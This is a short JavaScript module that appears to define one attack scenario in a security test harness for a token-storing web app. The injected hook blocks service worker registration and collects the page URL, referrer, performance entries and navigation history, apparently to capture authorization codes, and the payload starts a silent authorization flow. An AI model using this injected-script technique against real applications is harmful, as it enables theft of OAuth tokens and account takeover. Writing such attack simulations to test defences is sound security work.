import { attack } from "../attack.js";

export default attack({
  name: "silent flow in the top page, worker unregistered, and a look back at it",
  threat: "acquisition of new tokens",
  target: "strongroom",
  wantsCode: true,
  hook(it) {
    ServiceWorkerContainer.prototype.register = () => new Promise(() => {});
    const { navigation } = window as { navigation?: { entries(): { url: string }[] } };
    it.steal(location.href, document.referrer, performance.getEntries());
    it.steal((navigation?.entries() ?? []).map(({ url }) => url));
  },
  payload(it) {
    location.assign(it.authorizationUrl());
  },
  async play(stage) {
    await stage.unregisterWorkers();
    await stage.openUnconnected();
    await stage.injectAndLeave();
    // The user finds a page that leads back to the app, where the script runs again.
    await stage.openUnconnected();
    await stage.browser.evaluate(() => history.back());
    await stage.openUnconnected();
  },
});
